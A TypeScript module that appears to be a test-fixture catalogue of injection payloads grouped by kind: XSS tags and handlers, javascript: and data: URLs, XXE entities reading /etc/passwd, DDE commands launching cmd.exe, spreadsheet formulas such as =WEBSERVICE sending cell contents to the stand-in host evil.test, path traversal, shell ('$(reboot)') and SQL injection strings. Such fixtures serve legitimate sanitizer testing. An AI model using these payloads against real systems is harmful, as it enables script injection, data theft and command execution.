/** What somebody could write who wants a page, a document or a table to run or load something: by kind, and all of them numbered. */

/** Whatever runs calls `alert`; whatever loads asks this host. */
const X = 'alert(1)'
const H = 'evil.test'
const many = (sign: string, count: number): string => sign.repeat(count)

const KINDS = {
  scripts: [
    `<script>${X}</script>`, `<SCRIPT>${X}</SCRIPT>`, `<script >${X}</script >`, `<script\n>${X}</script\n>`, `<script/x>${X}</script>`, `<script src=//${H}/s.js></script>`,
    `<script src="data:text/javascript,${X}"></script>`, `<script type=module>${X}</script>`, `<scr<script>ipt>${X}</script>`, `"><script>${X}</script>`, `'><script>${X}</script>`,
    `</title><script>${X}</script>`, `</textarea><script>${X}</script>`, `</style><script>${X}</script>`, `</script><script>${X}</script>`, `--><script>${X}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<script>${X}`, `<<script>${X}//<</script>`, `<script\u0000>${X}</script>`, `<template><script>${X}</script></template>`,
  ],
  handlers: [
    `<img src=x onerror=${X}>`, `<img src=x onerror="${X}">`, `<IMG SRC=x ONERROR=${X}>`, `<img/src=x/onerror=${X}>`, `<img src=x onerror\t=${X}>`, `<img src=x onerror\n=\n${X}>`,
    `<img src=x:x onerror=&#97;lert(1)>`, `<img src=x onerror=&#x61;lert(1)>`, `"><img src=x onerror=${X}>`, `' onerror=${X} x='`, `" onfocus=${X} autofocus x="`, `" onmouseover="${X}" x="`,
    `<body onload=${X}>`, `<body onpageshow=${X}>`, `<input autofocus onfocus=${X}>`, `<select autofocus onfocus=${X}>`, `<textarea autofocus onfocus=${X}>`, `<details open ontoggle=${X}>`,
    `<video src=x onerror=${X}>`, `<video><source onerror=${X}>`, `<audio src=x onerror=${X}>`, `<marquee onstart=${X}>`, `<style onload=${X}></style>`, `<link rel=stylesheet href=data:, onload=${X}>`,
    `<iframe onload=${X}>`, `<object data=x onerror=${X}>`, `<div style="animation:x" onanimationstart=${X}>`, `<img src onerror=${X}//`, `<img src=\`x\`onerror=${X}>`, `<x contenteditable onblur=${X} autofocus>`,
  ],
  frames: [
    `<iframe src="javascript:${X}"></iframe>`, `<iframe srcdoc="<script>${X}</script>"></iframe>`, `<iframe src=//${H}/f></iframe>`, `<iframe src="data:text/html,<script>${X}</script>">`,
    `<embed src="javascript:${X}">`, `<embed src=//${H}/e.svg>`, `<object data="javascript:${X}">`, `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
    `<frameset onload=${X}>`, `<base href=//${H}/>`, `<meta http-equiv=refresh content="0;url=//${H}/">`, `<meta http-equiv=refresh content="0;url=javascript:${X}">`,
    `<form action="javascript:${X}"><button autofocus>x</button></form>`, `<button formaction="javascript:${X}" form=x>x</button>`, `<isindex action=javascript:${X}>`, `<portal src=//${H}/>`,
  ],
  vectors: [
    `<svg onload=${X}>`, `<svg/onload=${X}>`, `<svg><script>${X}</script></svg>`, `<svg><script href="data:,${X}"/></svg>`, `<svg><script xlink:href=//${H}/s.js></script></svg>`,
    `<svg><a href="javascript:${X}"><text y=20>x</text></a></svg>`, `<svg><a><animate attributeName=href values=javascript:${X} /><text y=20>x</text></a></svg>`, `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
    `<svg><set attributeName=onmouseover to=${X}>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${X}'/></svg>#x"/>`,
    `<svg><use href="//${H}/x.svg#x"/></svg>`, `<svg><image href="//${H}/p.png"/></svg>`, `<svg><image href=x onerror=${X}></svg>`, `<svg><foreignObject><iframe srcdoc="<script>${X}</script>"/></foreignObject></svg>`,
    `<svg><foreignObject><img src=x onerror=${X}></foreignObject></svg>`, `<svg><style>@import url(//${H}/c.css);</style></svg>`, `<svg><filter><feImage href="//${H}/p.png"/></filter></svg>`,
    `<svg><desc><![CDATA[</desc><script>${X}</script>]]></svg>`, `</text></svg><script>${X}</script>`, `"/><image href="x" onerror="${X}"/><text x="`, `<math><mtext><img src=x onerror=${X}></mtext></math>`,
    `<math href="javascript:${X}">x</math>`, `<math><maction actiontype="statusline#http://${H}" xlink:href="javascript:${X}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><svg onload=${X}>`,
    `<math><mglyph><style><img src=x onerror=${X}></style></mglyph></math>`,
  ],
  addresses: [
    `javascript:${X}`, `JaVaScRiPt:${X}`, `java\tscript:${X}`, `java\nscript:${X}`, `java\rscript:${X}`, `\u0001javascript:${X}`, ` javascript:${X}`, `javascript\u00a0:${X}`, `javascript&colon;${X}`,
    `&#106;avascript:${X}`, `&#x6a;avascript:${X}`, `javascript:/*--></title></style></textarea></script><svg/onload=${X}>`, `javascript://%0a${X}`, `vbscript:msgbox(1)`, `livescript:${X}`,
    `data:text/html,<script>${X}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `DATA:text/html,<svg onload=${X}>`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${X}'/>`,
    `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${X}</script>`, `blob:null/x`, `file:///etc/passwd`, `//${H}/x`, `https://${H}/?x="><img src=x onerror=${X}>`,
    `mailto:x@x.dk?body=</a><script>${X}</script>`, `view-source:javascript:${X}`, `feed:javascript:${X}`, `jar:https://${H}!/x.html`, `filesystem:https://x/y`, `\u200bjavascript:${X}`,
  ],
  styles: [
    `<style>@import "//${H}/c.css"</style>`, `<style>*{background:url(//${H}/b.png)}</style>`, `<p style="background:url(//${H}/b.png)">x</p>`, `<p style="width:expression(${X})">x</p>`,
    `<p style="-moz-binding:url(//${H}/x.xml#x)">x</p>`, `<p style="behavior:url(//${H}/x.htc)">x</p>`, `</style><img src=x onerror=${X}>`, `;background:url(//${H}/b.png);`, `red;}*{background:url(//${H}/b)}`,
    `<link rel=stylesheet href=//${H}/c.css>`, `<link rel=prefetch href=//${H}/p>`, `<link rel=preload as=script href=//${H}/s.js>`, `<style>@font-face{font-family:x;src:url(//${H}/f)}</style>`,
  ],
  loads: [
    `<img src=//${H}/p.png>`, `<img srcset="//${H}/p.png 1x">`, `<picture><source srcset=//${H}/p.png><img></picture>`, `<video poster=//${H}/p.png>`, `<audio src=//${H}/a.mp3 autoplay>`,
    `<input type=image src=//${H}/i.png>`, `<body background=//${H}/b.png>`, `<table background=//${H}/b.png><tr><td>x</table>`,
  ],
  templates: [
    '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '{%raw%}{{alert(1)}}', '[[${alert(1)}]]', '{alert(1)}', '{{7*7}}', '@{alert(1)}', '%{alert(1)}', '`${alert(1)}`', '$1 $& $` $\'',
    '%s%s%n %d', '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E', '\\x3cimg src=x onerror=alert(1)\\x3e',
  ],
  markdown: [
    `[x](javascript:${X})`, `[x](<javascript:${X}>)`, `[x]( javascript:${X} "t")`, `![x](//${H}/p.png)`, `![x](https://${H}/p.png)`, `[x][1]\n\n[1]: javascript:${X}`, `<javascript:${X}>`, `<https://${H}/>`,
    `# <img src=x onerror=${X}>`, `> <script>${X}</script>`, `- [ ] <img src=x onerror=${X}>`, `\`\`\`\n</code><script>${X}</script>\n\`\`\``, `| a | <img src=x onerror=${X}> |\n| --- | --- |`, `***<svg onload=${X}>***`,
    `&lt;script&gt;${X}&lt;/script&gt;`, `\\<script>${X}\\</script>`, `1. x\n\n    <script>${X}</script>`, `~~~html\n<script>${X}</script>\n~~~`, `[x](https://x.dk "onerror=${X}")`, `---\ntitle: x\n---`,
  ],
  documents: [
    `<![CDATA[<script>${X}</script>]]>`, `]]><script>${X}</script>`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`, `<!ENTITY % p SYSTEM "//${H}/x.dtd">%p;`, `&e;&lol9;`,
    `<?xml-stylesheet href="//${H}/x.xsl"?>`, `<!--#include virtual="/etc/passwd"-->`, `</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>`,
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }', `{ INCLUDEPICTURE "http://${H}/p.png" \\d }`, `{ HYPERLINK "file:///c:/x.exe" }`, `<w:fldSimple w:instr="INCLUDETEXT http://${H}/"/>`,
    `<w:altChunk r:id="x"/>`, `<Relationship Target="http://${H}/" TargetMode="External"/>`, '%PDF-1.7 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>', ') Tj ET /S /JavaScript /JS (app.alert\\(1\\)) (',
  ],
  tables: [
    `=HYPERLINK("https://${H}/?"&A1,"x")`, `=WEBSERVICE("https://${H}/"&A1)`, `=cmd|'/k calc'!A1`, `+cmd|'/k calc'!A1`, `-2+3+cmd|'/k calc'!A1`, '@SUM(1+1)*cmd|\'/k calc\'!A1', '=1+1', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1', `'=1+1`,
    '\u0000=1+1', '\ufeff=1+1', '\u200b=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1+1)', '−1+1', '";=1+1;"', '",=1+1,"', 'x\r\n=1+1', 'x";\r\n"=1+1', '%0A=1+1', '=IMPORTXML("https://evil.test","//a")', '=DDE("cmd";"/C calc";"x")',
  ],
  names: [
    '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '{"__proto__":{"x":1}}', '__proto__[x]=1', '../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\x', 'x\u0000.png', 'CON', 'aux.txt', '.htaccess',
    'x.svg.html', 'x%00.html', `x"; filename="evil.html`, `x\r\nset-cookie: a=b`, '~root', '$(reboot)', '`reboot`', '; reboot', '| reboot', "' OR 1=1 --", '"; DROP TABLE workshops; --', 'null', 'undefined', 'NaN', '[object Object]',
  ],
  signs: [
    '\u202e<script>alert(1)</script>', 'x\u202egnp.exe', '\u2066x\u2069', '\u200f=1+1', 'a\u0000b', '\u0000', '\ufeff', '\u2028alert(1)', '\u2029alert(1)', '\ud800', '\udc00x', 'x\ufffe\uffff', '\u007f\u0080\u009f', '\u001b[31mx', '\u001b]0;x\u0007',
    'Z̸̡͇a͔̖l̢g̷o̕'.repeat(5), 'مرحبا بالعالم', 'שלום עולם', 'æøå ÆØÅ', '👩‍👩‍👧‍👦🇩🇰❤️', '＜script＞alert(1)＜/script＞', 'ﷺ'.repeat(20), `${many('<b>', 60)}x`, `${many('A', 900)}<img src=x onerror=${X}>`, many('<', 200), many('&', 100), many('(', 300),
    many('\\', 101), many('"', 99), many("'", 99),
  ],
} as const

export type PayloadKind = keyof typeof KINDS

/** Every payload, in a fixed order. */
export const PAYLOADS: readonly string[] = Object.values(KINDS).flat()

/** Of one kind. */
export const payloadsOf = (kind: PayloadKind): readonly string[] => KINDS[kind]

/** What is left of a payload where a text may have `length` characters; its beginning, never half a sign. */
export const fitting = (payload: string, length: number): string => payload.slice(0, length).replace(/[\ud800-\udbff]$/, '')
